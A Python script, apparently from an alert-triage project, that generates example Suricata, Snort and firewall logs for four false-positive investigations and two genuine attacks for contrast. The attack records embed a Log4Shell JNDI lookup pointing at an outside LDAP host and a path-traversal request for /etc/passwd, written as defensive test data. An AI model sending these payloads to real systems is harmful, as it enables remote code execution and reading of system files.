#!/usr/bin/env python3
"""Writes the alert dumps in examples/ that reproduce the four seed investigations, plus
genuine attacks for contrast. The committed files are what the tests use; this script records
how they were made (run from the repository root: python3 scripts/make-examples.py).

All addresses are documentation or private ranges, or the sanitised labels analysts paste.
"""

import base64
import json
import random
import struct

random.seed(20011813)


def eve(rec):
    return json.dumps(rec, separators=(",", ":"))


def llmnr_query(txid, name):
    hdr = struct.pack(">HHHHHH", txid, 0, 1, 0, 0, 0)
    q = bytes([len(name)]) + name.encode() + b"\x00" + struct.pack(">HH", 1, 1)
    return hdr + q


# --- seed 000: ET P2P ThunderNetwork (2009099 rev 3) on LLMNR queries -----------------------
def seed000():
    lines = []
    flow_id = 1289374650192837
    for i, (ts, sport, name) in enumerate(
        [
            ("2016-04-27T21:14:03.418862-0500", 52814, "Kristis-Laptop"),
            ("2016-04-27T21:14:03.519604-0500", 52814, "Kristis-Laptop"),
            ("2016-04-28T07:02:41.003117-0500", 61377, "wpad"),
        ]
    ):
        payload = llmnr_query(0x3200, name)
        rec = {
            "timestamp": ts,
            "flow_id": flow_id + i,
            "in_iface": "eth1",
            "event_type": "alert",
            "src_ip": "192.168.88.23",
            "src_port": sport,
            "dest_ip": "224.0.0.252",
            "dest_port": 5355,
            "proto": "UDP",
            "alert": {
                "action": "allowed",
                "gid": 1,
                "signature_id": 2009099,
                "rev": 3,
                "signature": "ET P2P ThunderNetwork UDP Traffic",
                "category": "Potential Corporate Privacy Violation",
                "severity": 1,
                "metadata": {"created_at": ["2010_07_30"], "updated_at": ["2010_07_30"]},
            },
            "app_proto": "failed",
            "flow": {
                "pkts_toserver": 1,
                "pkts_toclient": 0,
                "bytes_toserver": 14 + 20 + 8 + len(payload),
                "bytes_toclient": 0,
                "start": ts,
            },
            "payload": base64.b64encode(payload).decode(),
            "payload_printable": "".join(chr(b) if 32 <= b < 127 else "." for b in payload),
            "stream": 0,
        }
        lines.append(eve(rec))
    with open("examples/seed000-llmnr-xunlei.eve.json", "w") as f:
        f.write("\n".join(lines) + "\n")


# --- seed 003: Snort 1.8 "DDOS mstream client to handler" on an HTTP response with a GIF -------
def gif_body(n):
    head = b"GIF89a" + struct.pack("<HH", 638, 53) + bytes([0xD5, 0x27, 0x00])
    palette = bytes(random.randrange(256) for _ in range(3 * 64))
    ext = b"\x21\xf9\x04\x01\x00\x00\x27\x00"
    img = b"\x2c" + struct.pack("<HHHH", 0, 0, 638, 53) + b"\x00\x06"
    data = bytearray()
    while len(head) + len(palette) + len(ext) + len(img) + len(data) < n:
        block = bytes(random.randrange(256) for _ in range(min(255, n)))
        data += bytes([len(block)]) + block
    body = head + palette + ext + img + bytes(data)
    return body[:n]


def snort18_full(ts, src, dst, ttl, ipid, seq, ack, win, payload, msg):
    out = [f"[**] {msg} [**]", f"{ts} {src} -> {dst}"]
    out.append(f"TCP TTL:{ttl} TOS:0x0 ID:{ipid} IpLen:20 DgmLen:{20 + 20 + len(payload)} DF")
    out.append(f"***AP*** Seq: 0x{seq:X}  Ack: 0x{ack:X}  Win: 0x{win:X}  TcpLen: 20")
    for i in range(0, len(payload), 16):
        row = payload[i : i + 16]
        hexs = " ".join(f"{b:02X}" for b in row)
        asc = "".join(chr(b) if 32 <= b < 127 else "." for b in row)
        out.append(f"{hexs:<48} {asc}")
    out.append("")
    out.append("=+" * 37 + "=")
    out.append("")
    return out


def seed003():
    lines = [
        "From: analyst@example.net",
        "Date: Mon, 13 Aug 2001 16:39:55 -0700",
        "Subject: mstream alerts on port 12754?",
        "",
        "Snort 1.8.1 raised these on traffic to our NAT firewall. Full alerts below.",
        "",
    ]
    seq = 0xE37E6C1A
    for k in range(3):
        http = (
            b"HTTP/1.0 200 OK\r\nContent-Type: image/gif\r\nContent-Length: 5740\r\n"
            b"Last-Modified: Fri, 15 Apr 1994 00:00:00 GMT\r\n"
            b"Date: Mon, 13 Aug 2001 15:15:48 GMT\r\nConnection: keep-alive\r\n\r\n"
        )
        payload = http + gif_body(1460 - len(http))
        if b">" not in payload:
            payload = payload[:900] + b">" + payload[901:]
        lines += snort18_full(
            f"08/13-08:12:{47 + k:02d}.{743103 + 1311 * k:06d}",
            "a.b.c.d:80",
            "my.firewall.ip:12754",
            61,
            27309 + k,
            seq + 1460 * k,
            0x57B1F,
            0x7D78,
            payload,
            "DDOS mstream client to handler",
        )
    with open("examples/seed003-mstream-gif.full.txt", "w") as f:
        f.write("\n".join(lines) + "\n")


# --- seed 001: ipchains log of SMB to 1.11.0.0/16 (reserved in 2004) -------------------------
def seed001():
    lines = [
        "From: netadmin@example.org",
        "Date: Tue, 14 Sep 2004 23:23:00 -0400",
        "Subject: unusual 1.11.0.0/16 outbound traffic",
        "",
        "Our gateway keeps rejecting SMB from inside hosts to 1.11.x.x. Log excerpt:",
        "",
    ]
    hosts = ["172.30.3.56", "172.30.3.78", "172.30.2.201", "172.30.1.17"]
    for day, hh in [(10, 5), (10, 6), (23, 14), (8, 18)]:
        for i, h in enumerate(hosts):
            sport = 1100 + 37 * i + day
            dst = f"1.11.{40 + 7 * i}.{20 + day}"
            mon = "Sep" if day == 8 else "Aug"
            for j, ln in enumerate([40, 79, 79, 192]):
                lines.append(
                    f"{mon} {day:2d} {hh:02d}:{15 + i:02d}:{10 + j:02d} fw-gw kernel: Packet log: input REJECT eth0 "
                    f"PROTO=6 {h}:{sport} {dst}:445 L={ln} S=0x00 I={4000 + 13 * j + i} F=0x4000 T=128 (#13)"
                )
    with open("examples/seed001-smb-reserved.ipchains.log", "w") as f:
        f.write("\n".join(lines) + "\n")


# --- seed 002: Cisco ASA denies of UDP from many peers to one inside port --------------------
def seed002():
    lines = [
        "Date: Thu, 14 Mar 2013 09:12:00 +0000",
        "Subject: odd UDP traffic from all over",
        "",
        "Firewall denies since the weekend, all to the same inside port:",
        "",
    ]
    for i in range(24):
        src = f"{random.choice([187, 46, 188, 125, 80, 212, 178, 154])}.{random.randrange(1, 255)}.XX.XX"
        sport = random.randrange(1025, 65535)
        lines.append(
            f"Mar 14 10:{i:02d}:{random.randrange(60):02d} asa01 %ASA-4-106023: Deny udp src outside:{src}/{sport} "
            f"dst inside:64.9.XX.XX/8832 by access-group \"outside_in\" [0x0, 0x0]"
        )
    with open("examples/seed002-nas-p2p.asa.log", "w") as f:
        f.write("\n".join(lines) + "\n")


# --- genuine attacks -------------------------------------------------------------------------
def attacks():
    recs = []
    log4j = (
        b"GET /?x=${jndi:ldap://198.51.100.77:1389/Exploit} HTTP/1.1\r\n"
        b"Host: 10.20.30.40\r\nUser-Agent: ${jndi:ldap://198.51.100.77:1389/a}\r\nAccept: */*\r\n\r\n"
    )
    recs.append(
        {
            "timestamp": "2021-12-11T03:17:55.204511+0000",
            "flow_id": 918273645001,
            "event_type": "alert",
            "src_ip": "198.51.100.77",
            "src_port": 51644,
            "dest_ip": "10.20.30.40",
            "dest_port": 80,
            "proto": "TCP",
            "direction": "to_server",
            "alert": {
                "action": "allowed",
                "gid": 1,
                "signature_id": 2034647,
                "rev": 1,
                "signature": "ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)",
                "category": "Attempted Administrator Privilege Gain",
                "severity": 1,
            },
            "http": {
                "hostname": "10.20.30.40",
                "url": "/?x=${jndi:ldap://198.51.100.77:1389/Exploit}",
                "http_user_agent": "${jndi:ldap://198.51.100.77:1389/a}",
                "http_method": "GET",
                "protocol": "HTTP/1.1",
            },
            "app_proto": "http",
            "flow": {"pkts_toserver": 4, "pkts_toclient": 3, "bytes_toserver": 512, "bytes_toclient": 260, "start": "2021-12-11T03:17:55.101002+0000"},
            "payload": base64.b64encode(log4j).decode(),
            "stream": 1,
        }
    )
    trav = b"GET /cgi-bin/../../../../../../etc/passwd HTTP/1.1\r\nHost: intranet.example.com\r\nUser-Agent: curl/7.58.0\r\n\r\n"
    recs.append(
        {
            "timestamp": "2023-06-02T11:40:09.771230+0200",
            "flow_id": 918273645002,
            "event_type": "alert",
            "src_ip": "203.0.113.66",
            "src_port": 40112,
            "dest_ip": "172.16.5.10",
            "dest_port": 80,
            "proto": "TCP",
            "direction": "to_server",
            "alert": {
                "action": "allowed",
                "gid": 1,
                "signature_id": 2049999,
                "rev": 2,
                "signature": "ET WEB_SERVER Path Traversal Attempt to /etc/passwd",
                "category": "Web Application Attack",
                "severity": 1,
            },
            "http": {"hostname": "intranet.example.com", "url": "/cgi-bin/../../../../../../etc/passwd", "http_method": "GET", "protocol": "HTTP/1.1"},
            "app_proto": "http",
            "payload": base64.b64encode(trav).decode(),
            "stream": 1,
        }
    )
    with open("examples/attacks.eve.json", "w") as f:
        f.write("\n".join(eve(r) for r in recs) + "\n")


if __name__ == "__main__":
    seed000()
    seed001()
    seed002()
    seed003()
    attacks()
